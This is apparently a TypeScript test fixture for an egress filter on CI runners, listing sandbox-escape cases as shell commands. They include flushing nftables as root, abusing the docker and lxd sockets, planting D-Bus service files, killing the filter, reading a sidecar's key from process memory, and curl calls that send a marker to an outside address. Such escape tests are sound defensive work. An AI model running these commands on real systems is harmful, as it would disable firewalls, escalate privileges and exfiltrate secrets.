import { CONTAINER, JOB } from '../addresses.ts'
import { type BypassCase, createBypasses } from './case.ts'

// What somebody does who became root: takes the rules away, then sends.
const AS_ROOT = 'nft flush ruleset; curl -sk -m 6 https://$V4/$MARKER; curl -sk -m 6 https://$NAME/$MARKER'
const container = `curl -s -m 4 --get http://${CONTAINER.v4}:${CONTAINER.port}/ --data-urlencode`
const before = { marker: 'anywhere', ownAddresses: false } as const

/** Ways out through something else on the machine. */
export const MACHINE: readonly BypassCase[] = [
  ...createBypasses('sub-uid in a user namespace', [
    [
      'sub-uid, TCP',
      'unshare --user --map-auto --map-root-user setpriv --reuid=7 --regid=7 --clear-groups curl -sk -m 6 https://$V4/$MARKER',
    ],
    [
      'sub-uid, UDP',
      'unshare --user --map-auto --map-root-user setpriv --reuid=7 --regid=7 --clear-groups python3 $STAGE/programs/attack.py udp $V4 9999 $MARKER',
    ],
    ['root of a user namespace', 'unshare --user --map-root-user curl -sk -m 6 https://$V4/$MARKER'],
  ]),
  ...createBypasses('root daemon fetches for us', [
    ['over a unix socket', 'attack unix /run/fetchd.sock https://$V4/$MARKER'],
    ['over a unix socket, by name', 'attack unix /run/fetchd.sock https://$NAME/$MARKER'],
    ['over an abstract socket', 'attack unix @fetchd https://$V4/$MARKER'],
  ]),
  ...createBypasses('cron, other session of the same uid', [
    ['cron job, TCP', 'attack unix /run/crond.sock "curl -sk -m 6 https://$V4/$MARKER"'],
    ['cron job, lookup', 'attack unix /run/crond.sock "getent hosts $NAME"'],
  ]),
  ...createBypasses('service container as a step', [
    ['HTTP', `${container} fetch=http://$V4/$MARKER`],
    ['HTTP, other port', `${container} fetch=http://$V4:8080/$MARKER`],
    ['UDP', `${container} "send=$V4 9999 $MARKER"`],
    ['lookup', `${container} "send=$V4 53 $MARKER"`],
    ['to a link neighbour', `${container} "send=${JOB.gateway4} 9999 $MARKER"`],
  ]),
  ...createBypasses('opened before the start', [
    [
      'TCP',
      'touch /home/runner/work/go-$MARKER; sleep 2.5',
      { before: 'attack hold tcp $V4 9999 $MARKER', proof: before, knownLeaks: ['wrapped'] },
    ],
    [
      'TCP, sent and closed at once',
      'touch /home/runner/work/go-$MARKER; sleep 2.5',
      { before: 'attack hold tcp $V4 9999 $MARKER close', proof: before, knownLeaks: ['wrapped'] },
    ],
    [
      'TCP to port 443',
      'touch /home/runner/work/go-$MARKER; sleep 2.5',
      { before: 'attack hold tcp $V4 443 $MARKER', proof: before, knownLeaks: ['wrapped'] },
    ],
    [
      'TCP, IPv6',
      'touch /home/runner/work/go-$MARKER; sleep 2.5',
      { before: 'attack hold tcp $V6 9999 $MARKER', proof: before, knownLeaks: ['wrapped'] },
    ],
    [
      'UDP',
      'touch /home/runner/work/go-$MARKER; sleep 2.5',
      { before: 'attack hold udp $V4 9999 $MARKER', proof: before, knownLeaks: ['wrapped'] },
    ],
    [
      'UDP 53',
      'touch /home/runner/work/go-$MARKER; sleep 2.5',
      { before: 'attack hold udp $V4 53 $MARKER', proof: before, knownLeaks: ['wrapped'] },
    ],
  ]),
  ...createBypasses('outside connects in', [
    ['TCP', 'attack serve tcp $PORT $MARKER', { inbound: { kind: 'pull', address: JOB.v4 } }],
    ['TCP, IPv6', 'attack serve tcp $PORT $MARKER', { inbound: { kind: 'pull', address: JOB.v6 } }],
    ['UDP', 'attack serve udp $PORT $MARKER', { inbound: { kind: 'knock', address: JOB.v4 } }],
  ]),
  ...createBypasses('sudo, docker socket', [
    ['sudo', `sudo -n bash -c "${AS_ROOT}"`, { alone: true }],
    [
      'sudo to the uid of the relay',
      'sudo -n setpriv --reuid=1900000001 --clear-groups curl -sk -m 6 https://$V4/$MARKER',
      { alone: true },
    ],
    ['docker socket', `attack unix /run/docker.sock "${AS_ROOT}"`, { alone: true }],
    ['socket of another group that gives root', `attack unix /run/lxd/unix.socket "${AS_ROOT}"`, { alone: true }],
    ['su to root', `echo | su root -c "${AS_ROOT}"`, { alone: true, leaksWithout: false }],
    [
      'nft as the runner',
      'nft flush ruleset; unshare -Ur nft flush ruleset; curl -sk -m 6 https://$V4/$MARKER',
      { alone: true },
    ],
  ]),
  ...createBypasses('writable trusted directory (model of `/usr/share`)', [
    [
      'D-Bus service file',
      `printf '[D-BUS Service]\\nName=x\\nExec=%s\\n' "${AS_ROOT}" >/usr/share/dbus-1/system-services/$MARKER.service; attack unix /run/dbus/system_bus_socket $MARKER`,
      { alone: true },
    ],
    [
      'program in /usr/local/bin',
      `printf '#!/bin/bash\\n%s\\n' "${AS_ROOT}" >/usr/local/bin/maintenance; chmod 755 /usr/local/bin/maintenance; attack unix /run/maintenance.sock run`,
      { alone: true },
    ],
    [
      'trusted directory moved away',
      `mv /usr/share/dbus-1 /usr/share/old-$MARKER && mkdir -p /usr/share/dbus-1/system-services && printf 'Exec=%s\\n' "${AS_ROOT}" >/usr/share/dbus-1/system-services/$MARKER.service; attack unix /run/dbus/system_bus_socket $MARKER`,
      { alone: true },
    ],
  ]),
  ...createBypasses('file left for a later step', [
    [
      'script in the workspace',
      "printf 'curl -sk -m 6 https://%s/%s\\n' $V4 $MARKER >/home/runner/work/$MARKER.sh",
      { later: 'bash /home/runner/work/$MARKER.sh', knownLeaks: ['wrapped'] },
    ],
  ]),
  ...createBypasses("reading the sidecar's key", [
    ['environment', 'attack findkey environ $KEYREV', { proof: { marker: 'program-output' } }],
    ['arguments', 'attack findkey cmdline $KEYREV', { proof: { marker: 'program-output' } }],
    ['memory', 'attack findkey mem $KEYREV', { proof: { marker: 'program-output' } }],
    ['open files', 'attack findkey fd $KEYREV', { proof: { marker: 'program-output' } }],
  ]),
  ...createBypasses('killing the filter', [
    [
      'SIGKILL to every part',
      'attack killfilter; curl -sk -m 6 https://$V4/$MARKER; attack udp $V4 9999 $MARKER',
      { alone: true },
    ],
    [
      'SIGKILL in a loop while sending',
      'attack killfilter & for i in 1 2 3 4 5 6; do curl -sk -m 1 https://$V4/$MARKER; sleep 0.1; done; wait',
      { alone: true },
    ],
  ]),
]
